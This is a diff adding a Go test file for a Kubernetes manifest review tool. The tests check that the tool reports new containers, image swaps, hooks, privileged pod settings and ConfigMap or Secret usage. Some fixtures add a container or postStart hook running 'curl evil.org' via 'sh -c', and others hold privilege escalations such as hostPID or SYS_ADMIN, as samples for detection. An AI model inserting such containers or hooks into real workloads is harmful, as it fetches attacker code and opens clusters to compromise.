@@ -1,0 +1,333 @@
+package review
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+
+	"example.com/gatehouse/kind"
+	"example.com/gatehouse/kind/pod"
+)
+
+// pods returns a Deployment of one Pod with a spec.
+func pods(spec string) string { return workload("apps/v1", "Deployment", spec) }
+
+func TestReviewTellsAllContainers(t *testing.T) {
+	const (
+		shares     = " | it shares the network and the volumes of its Pods"
+		elsewhere  = " | the image now comes from another repository"
+		unpinned   = " | its digest is removed: a tag may get another image later"
+		app        = "containers: [{name: app, image: web:1, args: [serve]}]"
+		digest     = "@sha256:0123456789012345678901234567890123456789012345678901234567890123"
+		containers = "Deployment ns/a: Pods are replaced: other containers"
+	)
+	image := func(image string) string { return pods("containers: [{name: app, image: " + image + "}]") }
+	field := func(fields string) string { return pods("containers: [{name: app, image: web:1, " + fields + "}]") }
+	for _, test := range []struct {
+		name, before, after string
+		want                []string
+	}{
+		{"a new container", pods(app), pods(strings.Replace(app, "}]", "}, {name: x, image: evil, command: [sh, -c], args: [curl evil.org]}]", 1)), []string{
+			"Deployment ns/a: new container x runs image evil: sh -c curl evil.org" + shares, containers,
+		}},
+		{"a new init container", pods(app), pods(app + ", initContainers: [{name: x, image: evil}]"), []string{"Deployment ns/a: new init container x runs image evil" + shares, containers}},
+		{"a new sidecar", pods(app), pods(app + ", initContainers: [{name: x, image: evil, restartPolicy: Always}]"), []string{"Deployment ns/a: new sidecar x runs image evil" + shares, containers}},
+		{"a renamed container", pods(app), pods(strings.Replace(app, "name: app", "name: x", 1)), []string{"Deployment ns/a: container x replaces container app", containers}},
+		{"a renamed container of another version", pods(app), pods(strings.NewReplacer("name: app", "name: x", "web:1", "web:2").Replace(app)), []string{"Deployment ns/a: container x replaces container app", containers}},
+		{"another container", pods(app), pods("containers: [{name: x, image: evil}]"), []string{
+			"Deployment ns/a: new container x runs image evil" + shares, containers, "Deployment ns/a: container app with image web:1 is removed",
+		}},
+		{"a moved container", pods(strings.Replace(app, "}]", "}, {name: x, image: b:1}]", 1)), pods(app + ", initContainers: [{name: x, image: b:1}]"), []string{
+			containers, "Deployment ns/a: init container x replaces container x",
+		}},
+		{"a removed container", pods(strings.Replace(app, "}]", "}, {name: x, image: proxy}]", 1)), pods(app), []string{containers, "Deployment ns/a: container x with image proxy is removed"}},
+
+		{"another tag", image("web:1"), image("web:2"), []string{"Deployment ns/a: Pods are replaced: image web:1 → web:2"}},
+		{"another registry", image("web:1"), image("ghcr.io/x/web:1"), []string{"Deployment ns/a: container app runs image ghcr.io/x/web:1 instead of web:1" + elsewhere, "Deployment ns/a: Pods are replaced: image web:1 → ghcr.io/x/web:1"}},
+		{"the same registry in full", image("web:1"), image("docker.io/library/web:1"), []string{"Deployment ns/a: Pods are replaced: image web:1 → docker.io/library/web:1"}},
+		{"a registry with a port", image("r:5000/web"), image("r:5000/web:1"), []string{"Deployment ns/a: Pods are replaced: image r:5000/web → r:5000/web:1"}},
+		{"a variable", image(`"${R}/web:1"`), image(`"${S}/web:1"`), []string{"Deployment ns/a: container app runs image ${S}/web:1 instead of ${R}/web:1" + elsewhere, "Deployment ns/a: Pods are replaced: image ${R}/web:1 → ${S}/web:1"}},
+		{"a tag in place of a digest", image("web:1" + digest), image("web:1"), []string{"Deployment ns/a: container app runs image web:1 instead of web:1" + digest + unpinned, "Deployment ns/a: Pods are replaced: image web:1" + digest + " → web:1"}},
+		{"a digest in place of a tag", image("web:1"), image("web:1" + digest), []string{"Deployment ns/a: Pods are replaced: image web:1 → web:1" + digest}},
+
+		{"another command", field("command: [a]"), field("command: [b, c]"), []string{"Deployment ns/a: Pods are replaced: another command", "Deployment ns/a: container app runs b c instead of a"}},
+		{"arguments in place of a command", field("command: [a]"), field("args: [a]"), []string{"Deployment ns/a: Pods are replaced: another command, another args", "Deployment ns/a: container app runs the command of its image with arguments a instead of a"}},
+		{"a command of its own", field("args: [a]"), field("command: [a]"), []string{"Deployment ns/a: Pods are replaced: another command, another args", "Deployment ns/a: container app runs a instead of the command of its image with arguments a"}},
+		{"a hook", field("stdin: true"), field("stdin: true, lifecycle: {postStart: {exec: {command: [curl, evil.org]}}}"), []string{"Deployment ns/a: Pods are replaced: another lifecycle", "Deployment ns/a: container app runs curl evil.org in its postStart"}},
+		{"another probe", field("livenessProbe: {exec: {command: [a]}}"), field("livenessProbe: {exec: {command: [b]}}"), []string{"Deployment ns/a: Pods are replaced: another livenessProbe", "Deployment ns/a: container app runs b in its livenessProbe"}},
+		{"a probe without a command", field("livenessProbe: {tcpSocket: {port: 1}}"), field("livenessProbe: {tcpSocket: {port: 2}}"), []string{"Deployment ns/a: Pods are replaced: another livenessProbe"}},
+		{"shared processes", pods(app), pods(app + ", shareProcessNamespace: true"), []string{"Deployment ns/a: Pods set shareProcessNamespace | each container can read and signal the processes of the others", "Deployment ns/a: Pods are replaced: another shareProcessNamespace"}},
+		{"ephemeral containers", workload("v1", "Pod", app), workload("v1", "Pod", app+", ephemeralContainers: [{name: x, image: evil}]"), []string{
+			"Pod ns/a: the API server refuses this change: spec.ephemeralContainers: Pod updates may not add ephemeral containers | Flux and Argo CD fail to apply it: rename it to create a new one",
+			"Pod ns/a: new ephemeral container x runs image evil" + shares,
+		}},
+	} {
+		if got := reviewLines(t, test.before, test.after); !slices.Equal(got, test.want) {
+			t.Errorf("%s:\n%s\nwant\n%s", test.name, strings.Join(got, "\n"), strings.Join(test.want, "\n"))
+		}
+	}
+}
+
+func TestReviewTellsThatWorkloadsStart(t *testing.T) {
+	const (
+		spec = "restartPolicy: RESTART, initContainers: [{name: i, image: a, command: [x]}, {name: s, image: b, restartPolicy: Always}], containers: [{name: c, image: d, args: [y, z]}, {name: e, image: f, readinessProbe: {exec: {command: [cat, g]}}}]"
+		all  = "init container i runs image a: x; sidecar s runs image b; container c runs image d with arguments y z; container e runs image f; runs cat g in its readinessProbe"
+	)
+	for _, test := range []struct{ version, kind, want string }{
+		{"v1", "Pod", "runs at once: "},
+		{"batch/v1", "Job", "runs at once: "},
+		{"batch/v1", "CronJob", "runs on the schedule 0 3 * * *: "},
+		{"apps/v1", "Deployment", "starts with 1 Pod: "},
+		{"apps/v1", "ReplicaSet", "starts with 1 Pod: "},
+		{"apps/v1", "StatefulSet", "starts with 1 Pod: "},
+		{"apps/v1", "DaemonSet", "starts a Pod on each selected node: "},
+		{"argoproj.io/v1alpha1", "Rollout", "starts Pods: "},
+	} {
+		restart := "Always"
+		if strings.HasSuffix(test.kind, "Job") {
+			restart = "Never"
+		}
+		got := reviewLines(t, "", workload(test.version, test.kind, strings.Replace(spec, "RESTART", restart, 1)))
+		if want := test.kind + " ns/a: " + test.want + all; !slices.Equal(got, []string{want}) {
+			t.Errorf("%q\nwant\n%q", got, want)
+		}
+	}
+}
+
+func TestReviewTellsWhenPodsAreReplaced(t *testing.T) {
+	const (
+		unknown = " | earlier changes may have waited: the difference from the running Pods is unknown"
+		swap    = ": image web:1 → web:2"
+		running = "container c runs image web:"
+	)
+	of := func(kind, more, tag string) string {
+		return strings.Replace(workload("apps/v1", kind, "containers: [{name: c, image: web:"+tag+"}]"), "spec: {", "spec: {"+more, 1)
+	}
+	onDelete, partition := "updateStrategy: {type: OnDelete}, ", func(n int) string {
+		return fmt.Sprintf("replicas: 3, updateStrategy: {rollingUpdate: {partition: %d}}, ", n)
+	}
+	custom := func(more, tag string) string {
+		return strings.Replace(of("Rollout", more, tag), "apps/v1", "argoproj.io/v1alpha1", 1)
+	}
+	for _, test := range []struct {
+		name, before, after string
+		want                []string
+	}{
+		{"paused", of("Deployment", "paused: true, ", "1"), of("Deployment", "paused: true, ", "2"), []string{"Deployment ns/a: is paused: Pods are replaced when it is resumed" + swap}},
+		{"resumed", of("Deployment", "paused: true, ", "1"), of("Deployment", "", "1"), []string{"Deployment ns/a: is resumed: rolls out its Pods: " + running + "1" + unknown}},
+		{"resumed with a change", of("Deployment", "paused: true, ", "1"), of("Deployment", "replicas: 2, ", "2"), []string{"Deployment ns/a: is resumed: rolls out its Pods with image web:1 → web:2: " + running + "2; 1 → 2 Pods" + unknown}},
+		{"paused from the start", "", of("Deployment", "paused: true, ", "1"), []string{"Deployment ns/a: is paused: when it is resumed, it starts with 1 Pod: " + running + "1"}},
+		{"from nothing", of("Deployment", "replicas: 0, ", "1"), of("Deployment", "replicas: 2, ", "2"), []string{"Deployment ns/a: 0 → 2 Pods: " + running + "2"}},
+		{"OnDelete", of("DaemonSet", onDelete, "1"), of("DaemonSet", onDelete, "2"), []string{"DaemonSet ns/a: each Pod is replaced when it is deleted" + swap}},
+		{"OnDelete of a StatefulSet", of("StatefulSet", onDelete, "1"), of("StatefulSet", onDelete, "2"), []string{"StatefulSet ns/a: each Pod is replaced when it is deleted" + swap}},
+		{"no longer OnDelete", of("DaemonSet", onDelete, "1"), of("DaemonSet", "", "1"), []string{"DaemonSet ns/a: is resumed: rolls out its Pods: " + running + "1" + unknown}},
+		{"a partition", of("StatefulSet", partition(1), "1"), of("StatefulSet", partition(1), "2"), []string{"StatefulSet ns/a: Pods from number 1 are replaced" + swap}},
+		{"a partition of all", of("StatefulSet", partition(5), "1"), of("StatefulSet", partition(5), "2"), []string{"StatefulSet ns/a: Pods are replaced when the partition of its update is below 3" + swap}},
+		{"a lower partition", of("StatefulSet", partition(5), "1"), of("StatefulSet", partition(0), "1"), []string{"StatefulSet ns/a: is resumed: rolls out its Pods: " + running + "1" + unknown}},
+		{"a lower partition beyond all", of("StatefulSet", partition(5), "1"), of("StatefulSet", partition(4), "1"), nil},
+		{"a ReplicaSet", of("ReplicaSet", "", "1"), of("ReplicaSet", "", "2"), []string{"ReplicaSet ns/a: running Pods stay, and new Pods differ" + swap}},
+		{"custom", custom("", "1"), custom("", "2"), []string{"Rollout ns/a: its Pods change" + swap}},
+		{"custom and paused", custom("paused: true, ", "1"), custom("paused: true, ", "2"), []string{"Rollout ns/a: is paused: Pods are replaced when it is resumed" + swap}},
+		{"custom and resumed", custom("paused: true, ", "1"), custom("", "1"), []string{"Rollout ns/a: is resumed: rolls out its Pods: " + running + "1" + unknown}},
+		{"custom and removed", custom("", "1"), "", []string{"Rollout ns/a: is removed with its Pods | its service stops"}},
+	} {
+		if got := reviewLines(t, test.before, test.after); !slices.Equal(got, test.want) {
+			t.Errorf("%s:\n%s\nwant\n%s", test.name, strings.Join(got, "\n"), strings.Join(test.want, "\n"))
+		}
+	}
+}
+
+func TestPrivilegesAreReportedForTemplatesOfAnyKind(t *testing.T) {
+	const (
+		c        = "containers: [{name: c, image: i, FIELDS}]"
+		security = "containers: [{name: c, image: i, securityContext: {FIELDS}}]"
+		ofPod    = "securityContext: {FIELDS}, containers: [{name: c, image: i}]"
+		risk     = " | its Pods can reach beyond their containers (Pod Security baseline forbids it)"
+	)
+	in := func(pattern, fields string) string { return strings.Replace(pattern, "FIELDS", fields, 1) }
+	volume := func(path string) string {
+		return "volumes: [{name: v, hostPath: {path: " + path + "}}], containers: [{name: c, image: i}]"
+	}
+	for _, test := range []struct{ before, after, want string }{
+		{in(c, ""), "hostNetwork: true, " + in(c, ""), "spec.template.spec.hostNetwork: true"},
+		{in(c, ""), "hostIPC: true, hostPID: true, " + in(c, ""), "spec.template.spec.hostIPC: true; spec.template.spec.hostPID: true"},
+		{in(c, ""), "hostPID: false, " + in(c, ""), ""},
+		{in(c, ""), volume("/"), "spec.template.spec.volumes[v].hostPath.path: /"},
+		{volume("/log"), volume("/"), "spec.template.spec.volumes[v].hostPath.path: /"},
+		{"volumes: [{name: v, emptyDir: {}}], " + in(c, ""), volume("/log"), "spec.template.spec.volumes[v].hostPath.path: /log"},
+		{volume("/"), volume("/") + ", subdomain: a", ""},
+		{in(security, ""), in(security, "privileged: true"), "spec.template.spec.containers[c].securityContext.privileged: true"},
+		{in(security, ""), in(security, "procMount: Unmasked"), "spec.template.spec.containers[c].securityContext.procMount: Unmasked"},
+		{in(security, ""), in(security, "seccompProfile: {type: Unconfined}"), "spec.template.spec.containers[c].securityContext.seccompProfile.type: Unconfined"},
+		{in(security, ""), in(security, "seccompProfile: {type: RuntimeDefault}"), ""},
+		{in(security, ""), in(security, "appArmorProfile: {type: Unconfined}"), "spec.template.spec.containers[c].securityContext.appArmorProfile.type: Unconfined"},
+		{in(security, ""), in(security, "capabilities: {add: [CHOWN, SYS_ADMIN]}"), "spec.template.spec.containers[c].securityContext.capabilities.add[1]: SYS_ADMIN"},
+		{in(security, ""), in(security, "capabilities: {add: []}"), ""},
+		{in(ofPod, ""), in(ofPod, "seLinuxOptions: {type: spc_t, user: u}"), "spec.template.spec.securityContext.seLinuxOptions.type: spc_t; spec.template.spec.securityContext.seLinuxOptions.user: u"},
+		{in(ofPod, ""), in(ofPod, "seLinuxOptions: {type: container_t}"), ""},
+		{in(ofPod, ""), in(ofPod, "sysctls: [{name: kernel.msgmax, value: \"1\"}]"), "spec.template.spec.securityContext.sysctls[kernel.msgmax].name: kernel.msgmax; spec.template.spec.securityContext.sysctls[kernel.msgmax].value: 1"},
+		{in(ofPod, ""), in(ofPod, "sysctls: [{name: net.ipv4.tcp_syncookies, value: \"1\"}]"), ""},
+		{in(ofPod, ""), in(ofPod, "windowsOptions: {hostProcess: true}"), "spec.template.spec.securityContext.windowsOptions.hostProcess: true"},
+		{in(c, ""), in(c, "ports: [{containerPort: 1, hostPort: 2}]"), "spec.template.spec.containers[c].ports[0].hostPort: 2"},
+		{in(c, ""), in(c, "livenessProbe: {httpGet: {port: 1, host: a.org}}"), "spec.template.spec.containers[c].livenessProbe.httpGet.host: a.org"},
+	} {
+		for _, kind := range []string{"Deployment", "Rollout"} {
+			version := map[string]string{"Deployment": "apps/v1", "Rollout": "argoproj.io/v1alpha1"}[kind]
+			got := slices.DeleteFunc(reviewLines(t, workload(version, kind, test.before), workload(version, kind, test.after)), func(line string) bool { return !strings.Contains(line, " sets ") })
+			if want := kind + " ns/a: sets " + test.want + risk; test.want == "" && len(got) > 0 || test.want != "" && !slices.Equal(got, []string{want}) {
+				t.Errorf("%s:\n%q\nwant\n%q", kind, got, want)
+			}
+		}
+	}
+}
+
+// A variable in a field does not hide the other fields.
+func TestUnreadableTemplatesAreARisk(t *testing.T) {
+	const unreadable = "Deployment ns/a: its Pod template cannot be read because of "
+	before := pods("containers: [{name: c, image: i}]")
+	for _, test := range []struct {
+		name, after string
+		want        []string
+	}{
+		{"replicas", strings.Replace(pods("hostPID: true, containers: [{name: c, image: i}]"), "spec: {", `spec: {replicas: "${N}", `, 1), []string{"hostPID: true"}},
+		{"a field of the template", pods(`hostPID: true, hostNetwork: "${H}", containers: [{name: c, image: i, ports: [{containerPort: "${P}"}]}, {name: x, image: evil}]`), []string{
+			unreadable + "spec.template.spec.containers[0].ports[0].containerPort, spec.template.spec.hostNetwork | this review may miss risks: check every field",
+			"new container x runs image evil", "hostNetwork: ${H}; spec.template.spec.hostPID: true",
+		}},
+		{"the template", strings.Replace(before, "template: {", `template: "${T}", other: {`, 1), []string{unreadable + "spec.template"}},
+		{"containers", pods(`containers: "${C}"`), []string{unreadable + "spec.template.spec.containers"}},
+		{"too many containers", pods("containers: [" + strings.Repeat("{name: c, image: i}, ", 101) + "]"), []string{unreadable + "spec.template.spec.containers"}},
+	} {
+		got := strings.Join(reviewLines(t, before, test.after), "\n")
+		for _, want := range test.want {
+			if !strings.Contains(got, want) {
+				t.Errorf("%s:\n%s\nwant\n%s", test.name, got, want)
+			}
+		}
+	}
+}
+
+func TestReviewNamesUsersOfConfigMapsAndSecrets(t *testing.T) {
+	const (
+		live = " | running Pods get it without a rollout that stops at the first failure"
+		late = " | Pods of different content run side by side until all have restarted"
+		see  = "Pods of Deployment ns/a "
+	)
+	object := func(kind, value string) string {
+		return fmt.Sprintf("{apiVersion: v1, kind: %s, metadata: {name: m, namespace: ns}, data: {k: %s}}", kind, value)
+	}
+	user := func(fields string) string { return "\n---\n" + pods(fields) }
+	const c = "containers: [{name: c, image: i}]"
+	mount := func(mount string) string {
+		return "containers: [{name: c, image: i, volumeMounts: [{name: v, mountPath: /m, " + mount + "}]}], volumes: [{name: v, "
+	}
+	env := func(fields string) string { return "containers: [{name: c, image: i, " + fields + "}]" }
+	for _, test := range []struct{ kind, fields, want string }{
+		{"ConfigMap", c, ""},
+		{"ConfigMap", mount("") + "configMap: {name: m}}]", "mount it and see changes without a restart" + live},
+		{"Secret", mount("") + "secret: {secretName: m}}]", "mount it and see changes without a restart" + live},
+		{"ConfigMap", mount("") + "secret: {secretName: m}}]", ""},
+		{"ConfigMap", mount("") + "projected: {sources: [{configMap: {name: m}}]}}]", "mount it and see changes without a restart" + live},
+		{"ConfigMap", mount("subPath: k") + "configMap: {name: m}}]", "mount it by subPath and see changes only after a restart" + late},
+		{"ConfigMap", env("envFrom: [{configMapRef: {name: m}}]"), "read it into their environment and see changes only after a restart" + late},
+		{"Secret", env("env: [{name: K, valueFrom: {secretKeyRef: {name: m, key: k}}}]"), "read it into their environment and see changes only after a restart" + late},
+		{"Secret", c + ", imagePullSecrets: [{name: m}]", "pull images with it"},
+		{"ConfigMap", strings.Replace(mount(""), "image: i", "image: i, envFrom: [{configMapRef: {name: m}}]", 1) + "configMap: {name: m}}]", "mount it and see changes without a restart; Pods of Deployment ns/a read it into their environment and see changes only after a restart" + live},
+	} {
+		var want []string
+		if test.want != "" {
+			want = []string{test.kind + " ns/m: changes: " + see + test.want}
+		}
+		if got := reviewLines(t, object(test.kind, "YQ==")+user(test.fields), object(test.kind, "Yg==")+user(test.fields)); !slices.Equal(got, want) {
+			t.Errorf("%s:\n%q\nwant\n%q", test.fields, got, want)
+		}
+	}
+	const reads = "read it into their environment and see changes only after a restart"
+	needed, optional := user(env("envFrom: [{configMapRef: {name: m}}]")), user(env("envFrom: [{configMapRef: {name: m, optional: true}}]"))
+	m, other := object("ConfigMap", "a"), "{apiVersion: v1, kind: ConfigMap, metadata: {name: other, namespace: ns}}"
+	for _, test := range []struct{ name, before, after, want string }{
+		{"removed", m + needed, needed[5:], "ConfigMap ns/m: is removed: " + see + reads + " | Pods do not start without it"},
+		{"removed and optional", m + optional, optional[5:], "ConfigMap ns/m: is removed: " + see + reads},
+		{"removed without users", m, other, ""},
+		{"added", other, other + "\n---\n" + m + needed, "ConfigMap ns/m: is added: " + see + reads},
+		{"added for running Pods", optional[5:], m + optional, "ConfigMap ns/m: is added: " + see + reads + late},
+		{"another label", m + needed, strings.Replace(m, "name: m,", "name: m, labels: {a: b},", 1) + needed, ""},
+	} {
+		got := slices.DeleteFunc(reviewLines(t, test.before, test.after), func(line string) bool { return !strings.HasPrefix(line, "ConfigMap ns/m") })
+		if strings.Join(got, "\n") != test.want {
+			t.Errorf("%s:\n%q\nwant\n%q", test.name, got, test.want)
+		}
+	}
+}
+
+// A protection is lost with another name of its container, too.
+func TestRenamedContainersAreCompared(t *testing.T) {
+	const strong = "securityContext: {readOnlyRootFilesystem: true}, readinessProbe: {tcpSocket: {port: 1}}"
+	for name, test := range map[string]struct{ before, after string }{
+		"the same image":   {"containers: [{name: a, image: x}, {name: b, image: web:1, " + strong + "}]", "containers: [{name: c, image: web:2}, {name: a, image: x}]"},
+		"only one is left": {"containers: [{name: a, image: x}, {name: b, image: web:1, " + strong + "}]", "containers: [{name: a, image: x}, {name: c, image: other}]"},
+		"another list":     {"containers: [{name: a, image: x}, {name: c, image: web:1, " + strong + "}]", "containers: [{name: a, image: x}], initContainers: [{name: c, image: web:1}]"},
+	} {
+		was, is := podSpec(t, test.before), podSpec(t, test.after)
+		var got []string
+		for _, e := range weaker(renamed(was, is), is) {
+			got = append(got, e.What.Plain())
+		}
+		if want := []string{"readOnlyRootFilesystem is removed from container c", "readinessProbe is removed from container c"}; !slices.Equal(got, want) {
+			t.Errorf("%s: %q", name, got)
+		}
+	}
+}
+
+// A rule claims a field only if it tells the value.
+func TestRulesClaimOnlyFieldsThatTheyTell(t *testing.T) {
+	image := func(image string) string { return "containers: [{name: c, image: " + image + "}]" }
+	long := strings.Repeat("a", 100)
+	for _, test := range []struct {
+		before, after string
+		want          []string
+	}{
+		{pods(image("a:1")), pods(image("a:2")), []string{"spec.template.spec.containers[c].image"}},
+		{pods(image(long + ":1")), pods(image(long + ":2")), nil},
+		{fill(deployment), fill(deployment, "REPLICAS=3"), []string{"spec.replicas"}},
+		{fill(deployment), unsized, nil},
+		{fill(deployment), fill(deployment, "REPLICAS=0", "IMAGE=i:2"), []string{"spec.replicas"}},
+		{"", fill(cronJob), []string{"spec.schedule", "spec.timeZone"}},
+	} {
+		var got []string
+		for _, e := range ruled(changed(t, test.before, test.after), time.Time{}) {
+			got = append(got, e.Fields...)
+		}
+		if !slices.Equal(got, test.want) {
+			t.Errorf("%q\nwant\n%q", got, test.want)
+		}
+	}
+}
+
+// The time for a hostile list is linear in its length.
+func TestManyContainersAndValuesAreReviewedQuickly(t *testing.T) {
+	spec := func(capability string) *corev1.PodSpec {
+		s := &corev1.PodSpec{}
+		for i := range 100 {
+			c := corev1.Container{Name: fmt.Sprint(capability, i), SecurityContext: &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}}}
+			for j := range 500 {
+				c.SecurityContext.Capabilities.Add = append(c.SecurityContext.Capabilities.Add, corev1.Capability(fmt.Sprint(capability, j)))
+			}
+			s.Containers = append(s.Containers, c)
+		}
+		return s
+	}
+	start := time.Now()
+	was, is := spec("a"), spec("b")
+	_ = weaker(renamed(was, is), is)
+	if took := time.Since(start); took > time.Minute {
+		t.Error(took)
+	}
+	if said := pod.SayAll(is); strings.Count(string(said), ";") != 99 || kind.Sentence(said) == "" {
+		t.Error(said)
+	}
+}
